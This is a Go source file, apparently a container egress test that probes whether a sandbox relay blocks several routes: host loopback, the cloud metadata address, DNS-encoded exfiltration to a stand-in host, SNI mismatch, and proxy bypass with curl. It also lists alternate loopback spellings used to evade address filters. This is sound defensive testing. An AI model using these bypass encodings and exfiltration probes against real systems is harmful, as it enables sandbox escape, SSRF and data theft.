//go:build linux

package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"time"
)

// relay is the container's way out.
const relay = "127.0.0.1:19128"

// patience is how long an answer may take.
const patience = 20 * time.Second

var networkRows = []row{
	{"host's loopback", func(t target) (string, error) { return dial("tcp", "127.0.0.1:"+t.HostPort) }},
	{"host's loopback by the proxy", func(t target) (string, error) { return each(loopbacks, t.HostPort, connect) }},
	{"host's loopback by plain HTTP", func(t target) (string, error) { return each(loopbacks, t.HostPort, plain) }},
	{"link-local address", func(target) (string, error) { return dial("tcp", "169.254.169.254:80") }},
	{"link-local address by the proxy", func(target) (string, error) {
		return each([]string{"169.254.169.254", "[fe80::1]", "[::ffff:169.254.169.254]"}, "80", plain)
	}},
	{"host and other sessions", func(t target) (string, error) {
		return all(t.Addresses, func(a string) (string, error) { return dial("tcp", a) })
	}},
	{"host and other sessions by the proxy", func(t target) (string, error) { return all(t.Addresses, connect) }},
	{"public address by TCP", func(target) (string, error) { return dial("tcp", "192.0.2.1:443") }},
	{"public address by CONNECT", func(target) (string, error) { return connect("192.0.2.1:443") }},
	{"name server", func(target) (string, error) { return dial("udp", "192.0.2.1:53") }},
	{"name", func(target) (string, error) {
		var failed *net.DNSError
		_, err := net.DefaultResolver.LookupHost(context.Background(), "c2VjcmV0.exfiltrate.example")
		if errors.As(err, &failed) {
			return "no answer", nil
		}
		return "an answer", err
	}},
	{"host that is not allowed", func(target) (string, error) { return connect("exfiltrate.example:443") }},
	{"other port of an allowed host", func(t target) (string, error) {
		host, _, err := net.SplitHostPort(t.Allowed)
		if err != nil {
			return "", err
		}
		return connect(host + ":22")
	}},
	{"allowed host", func(t target) (string, error) { return handshake(t.Allowed, "") }},
	{"allowed host, another name in TLS", func(t target) (string, error) { return handshake(t.Allowed, "exfiltrate.example") }},
	{"allowed host without TLS", func(t target) (string, error) { return talk(t.Allowed, "GET / HTTP/1.0\r\n\r\n") }},
	{"without the variables", func(t target) (string, error) {
		err := exec.Command("curl", "--silent", "--noproxy", "*", "--max-time", "10", "https://"+t.Allowed).Run()
		var exit *exec.ExitError
		if errors.As(err, &exit) {
			return fmt.Sprintf("curl: %d", exit.ExitCode()), nil
		}
		return "done", err
	}},
}

// loopbacks are ways to write the host's own address.
var loopbacks = []string{
	"localhost", "localhost.", "LOCALHOST", "127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0.0.0.0",
	"[::1]", "[::]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "host.docker.internal",
}

// all returns the different answers of f.
func all(addresses []string, f func(string) (string, error)) (string, error) {
	var answers []string
	for _, a := range addresses {
		answer, err := f(a)
		if err != nil {
			return "", fmt.Errorf("%s: %w", a, err)
		}
		answers = append(answers, answer)
	}
	slices.Sort(answers)
	return strings.Join(slices.Compact(answers), " "), nil
}

func each(hosts []string, port string, f func(string) (string, error)) (string, error) {
	return all(hosts, func(host string) (string, error) { return f(host + ":" + port) })
}

func dial(network, address string) (string, error) {
	c, err := net.DialTimeout(network, address, patience)
	if err == nil {
		_ = c.Close()
	}
	return errno(err)
}

// request sends a request to the relay and returns the connection, and the status of
// the answer; a connection that ends without one is "closed".
func request(text string) (net.Conn, *bufio.Reader, string, error) {
	c, err := net.DialTimeout("tcp", relay, patience)
	if err != nil {
		return nil, nil, "", err
	}
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, text); err != nil {
		return c, nil, "closed", nil
	}
	r := bufio.NewReader(c)
	reply, err := http.ReadResponse(r, &http.Request{Method: http.MethodConnect}) //nolint:bodyclose // it ends with the connection
	if err != nil {
		return c, r, "closed", nil
	}
	return c, r, strconv.Itoa(reply.StatusCode), nil
}

// status is request for who wants the status alone.
func status(text string) (string, error) {
	c, _, answer, err := request(text)
	if c != nil {
		_ = c.Close()
	}
	return answer, err
}

func connect(address string) (string, error) {
	return status("CONNECT " + address + " HTTP/1.1\r\nHost: " + address + "\r\n\r\n")
}

func plain(address string) (string, error) {
	return status("GET http://" + address + "/ HTTP/1.1\r\nHost: " + address + "\r\nConnection: close\r\n\r\n")
}

// handshake opens a tunnel and TLS in it, with another name than that of the tunnel if
// one is given.
func handshake(address, name string) (string, error) {
	c, _, answer, err := request("CONNECT " + address + " HTTP/1.1\r\nHost: " + address + "\r\n\r\n")
	if err != nil || answer != "200" {
		return answer, err
	}
	defer func() { _ = c.Close() }()
	if name == "" {
		name, _, _ = net.SplitHostPort(address)
	}
	// Who answers does not matter, only that somebody does.
	err = tls.Client(c, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake() //nolint:gosec // see above
	if err != nil {
		return "closed", nil
	}
	return "TLS", nil
}

// talk opens a tunnel and says something that is not TLS.
func talk(address, text string) (string, error) {
	c, r, answer, err := request("CONNECT " + address + " HTTP/1.1\r\nHost: " + address + "\r\n\r\n")
	if err != nil || answer != "200" {
		return answer, err
	}
	defer func() { _ = c.Close() }()
	_, _ = io.WriteString(c, text)
	if n, _ := io.Copy(io.Discard, r); n > 0 {
		return "answered", nil
	}
	return "closed", nil
}
